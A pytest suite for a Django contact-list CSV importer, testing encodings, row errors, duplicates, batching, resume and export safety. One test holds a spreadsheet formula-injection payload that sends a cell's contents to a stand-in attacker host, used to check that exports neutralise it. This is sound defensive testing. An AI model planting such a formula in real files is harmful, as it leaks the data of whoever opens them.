"""CSV import: encodings, malformed rows, duplicates, batches, resume, formulas, 100k rows."""

from __future__ import annotations

import csv
import io
import time

import pytest
from django.core.management import call_command

from callcenter.services.errors import ServiceError
from campaigns.selectors.campaigns import campaign_export_rows, campaign_results
from campaigns.services import campaign_start
from contacts.imports import rows as import_rows
from contacts.imports.importer import csv_safe, import_confirm, import_prepare, import_run
from contacts.models import Contact, ContactList, ImportJob
from tests.campaigns.factories import make_campaign

pytestmark = pytest.mark.django_db


def _import(content: bytes, *, duplicates: str = "link", contact_list=None, **mapping) -> ImportJob:
    contact_list = contact_list or ContactList.objects.create(
        name=f"L{ContactList.objects.count()}"
    )
    job = import_prepare(
        user=None, contact_list=contact_list, name="t.csv", content=content, duplicates=duplicates
    )
    import_confirm(user=None, job=job, mapping={**job.mapping, **mapping}, queue=False)
    return import_run(job_id=job.pk)


def test_utf8_with_bom_reads_the_first_header_cleanly():
    job = _import("\ufeffphone,name\n9876500001,Zoë\n".encode())
    assert job.encoding == "utf-8-sig" and job.header == ["phone", "name"]
    contact = Contact.objects.get()
    assert (contact.phone, contact.name) == ("+919876500001", "Zoë")


def test_latin1_file_keeps_its_accents():
    job = _import("name;phone;city\nJosé Müller;+44 20 7946 0958;Zürich\n".encode("latin-1"))
    assert job.encoding in ("cp1252", "latin-1") and job.delimiter == ";"
    contact = Contact.objects.get()
    assert contact.name == "José Müller" and contact.variables == {"city": "Zürich"}
    assert contact.phone == "+442079460958" and contact.time_zone == "Europe/London"


def test_empty_file_is_refused_before_anything_is_stored():
    contact_list = ContactList.objects.create(name="Empty")
    with pytest.raises(ServiceError, match="empty"):
        import_prepare(user=None, contact_list=contact_list, name="e.csv", content=b"  \n")
    assert not ImportJob.objects.exists()


def test_header_only_file_imports_nothing_and_finishes():
    job = _import(b"phone,name\n")
    assert job.status == "done" and job.total_rows == 0 and Contact.objects.count() == 0


def test_malformed_rows_are_reported_by_row_column_and_reason():
    content = (
        b"phone,name,email,time zone,plan\n"
        b"9876500001,Good Row,a@example.com,,gold\n"  # row 2
        b"12,Bad Number,,,\n"  # row 3
        b",No Number,,,\n"  # row 4
        b"9876500002,Bad Mail,not-an-email,,\n"  # row 5
        b"9876500003,Bad Zone,,Mars/Olympus,\n"  # row 6
        b"9876500004,Too,many,,,columns,here\n"  # row 7
        b"\n"
        b'9876500005,"Quoted, comma",,America/New_York,silver\n'  # row 9
    )
    job = _import(content)
    assert job.status == "done"
    assert (job.created_count, job.error_count) == (2, 5)
    errors = {row: (column, reason) for row, column, reason in job.errors_preview}
    assert set(errors) == {3, 4, 5, 6, 7}
    assert errors[3][0] == "phone" and "not a valid phone number" in errors[3][1]
    assert errors[4] == ("phone", "no phone number")
    assert errors[5][0] == "email" and errors[6][0] == "time zone"
    assert "header has 5 columns" in errors[7][1]
    with job.errors_file.open("rb") as handle:
        lines = list(csv.reader(io.StringIO(handle.read().decode())))
    assert lines[0] == ["row", "column", "reason"] and len(lines) == 6
    quoted = Contact.objects.get(phone="+919876500005")
    assert quoted.name == "Quoted, comma" and quoted.time_zone == "America/New_York"
    assert quoted.variables == {"plan": "silver"}
    inferred = Contact.objects.get(phone="+919876500001").time_zone
    assert inferred in ("Asia/Kolkata", "Asia/Calcutta")  # from the number


@pytest.mark.parametrize(
    ("policy", "expected_contacts", "expected_name"),
    [("link", 2, "Old"), ("update", 2, "Newest"), ("keep", 4, None)],
)
def test_duplicates_in_the_file_and_in_the_list_follow_the_policy(
    policy, expected_contacts, expected_name
):
    contact_list = ContactList.objects.create(name="Dupes")
    existing = Contact.objects.create(phone="+919876500001", name="Old")
    existing.lists.add(contact_list)
    content = b"phone,name\n9876500001,New\n9876500002,Other\n+91 98765 00001,Newest\n"
    job = _import(content, duplicates=policy, contact_list=contact_list)
    assert contact_list.contacts.count() == expected_contacts
    if expected_name:
        existing.refresh_from_db()
        assert existing.name == expected_name
    if policy == "link":
        assert job.skipped_count == 2
    if policy == "update":  # each row counts once: both rows of the number updated it
        assert job.updated_count == 2 and job.created_count == 1


def test_a_failing_batch_leaves_no_half_imported_rows(monkeypatch):
    real = import_rows.RowImporter._update
    calls = {"n": 0}

    def failing_update(self, updates):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full")
        return real(self, updates)

    monkeypatch.setattr(import_rows.RowImporter, "_update", failing_update)
    content = "phone\n" + "".join(f"98765{i:05d}\n" for i in range(25))
    contact_list = ContactList.objects.create(name="Batches")
    job = import_prepare(
        user=None, contact_list=contact_list, name="b.csv", content=content.encode()
    )
    import_confirm(user=None, job=job, mapping=job.mapping, queue=False)
    job = import_run(job_id=job.pk, batch_size=10)
    assert job.status == "failed" and "row 12" in job.message and "disk full" in job.message
    assert job.processed_rows == 10 and Contact.objects.count() == 10


def test_a_dead_worker_is_resumed_after_its_last_committed_batch(monkeypatch):
    content = "phone\n" + "".join(f"98765{i:05d}\n" for i in range(25))
    contact_list = ContactList.objects.create(name="Resume")
    job = import_prepare(
        user=None, contact_list=contact_list, name="r.csv", content=content.encode()
    )
    import_confirm(user=None, job=job, mapping=job.mapping, queue=False)
    real = import_rows.RowImporter.commit_batch

    def dies_on_second(self, records, *, first_row):
        if first_row > 2:
            raise KeyboardInterrupt  # the process is killed: nothing catches this
        return real(self, records, first_row=first_row)

    monkeypatch.setattr(import_rows.RowImporter, "commit_batch", dies_on_second)
    with pytest.raises(KeyboardInterrupt):
        import_run(job_id=job.pk, batch_size=10)
    monkeypatch.setattr(import_rows.RowImporter, "commit_batch", real)
    assert import_run(job_id=job.pk).status == "running"  # still claimed by the dead worker
    ImportJob.objects.filter(pk=job.pk).update(heartbeat_at="2000-01-01T00:00:00Z")
    job = import_run(job_id=job.pk, batch_size=10)
    assert job.status == "done" and job.created_count == 25
    assert Contact.objects.count() == 25 and contact_list.contacts.count() == 25


def test_a_formula_in_a_cell_comes_out_harmless_in_the_export(settings):
    payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    content = f'phone,name\n9876500001,"{payload.replace(chr(34), chr(34) * 2)}"\n'.encode()
    job = _import(content)
    contact = Contact.objects.get()
    assert contact.name == payload  # stored as data, exactly
    campaign = make_campaign(lists=[job.contact_list])
    campaign_start(user=None, campaign=campaign)
    rows = list(campaign_export_rows(campaign_results(campaign)))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "+919876500001"  # a phone number is not a formula: left as is
    assert csv_safe("@SUM(A1)") == "'@SUM(A1)" and csv_safe("-2+3") == "'-2+3"
    assert csv_safe("-42") == "-42" and csv_safe("plain") == "plain"


def test_custom_columns_and_a_chosen_mapping():
    content = b"Mobile,Customer Name,order_id,internal\n9876500001,Asha,ORD1,x\n"
    _import(content, internal="ignore")
    contact = Contact.objects.get()
    assert contact.name == "Asha" and contact.variables == {"order_id": "ORD1"}


def test_mapping_without_a_phone_column_is_refused():
    contact_list = ContactList.objects.create(name="NoPhone")
    job = import_prepare(user=None, contact_list=contact_list, name="n.csv", content=b"a,b\n1,2\n")
    with pytest.raises(ServiceError, match="phone"):
        import_confirm(user=None, job=job, mapping={"a": "name", "b": "variable"}, queue=False)


def test_management_command_imports_and_its_help_explains(tmp_path, capsys):
    path = tmp_path / "list.csv"
    path.write_text("phone,name\n9876500001,Asha\nbad,Row\n")
    call_command("import_contacts", str(path), "--list", "From shell")
    out = capsys.readouterr().out
    assert "1 created" in out and "1 rows with errors" in out
    assert ContactList.objects.get(name="From shell").contacts.count() == 1
    with pytest.raises(SystemExit):
        call_command("import_contacts", "--help")
    help_text = capsys.readouterr().out
    assert "--duplicates" in help_text and "E.164" in help_text


def test_100k_rows_import_in_batches(record_property):
    rows = 100_000
    lines = ["phone,name,plan"] + [f"9{i:09d},Person {i},p{i % 7}" for i in range(rows)]
    content = ("\n".join(lines) + "\n").encode()
    started = time.perf_counter()
    job = _import(content)
    seconds = time.perf_counter() - started
    record_property("import_100k_seconds", round(seconds, 1))
    print(f"\n100k-row import: {seconds:.1f} s ({rows / seconds:,.0f} rows/s)")
    valid = Contact.objects.count()
    assert job.status == "done" and job.processed_rows == rows
    assert valid + job.error_count == rows and valid > 90_000
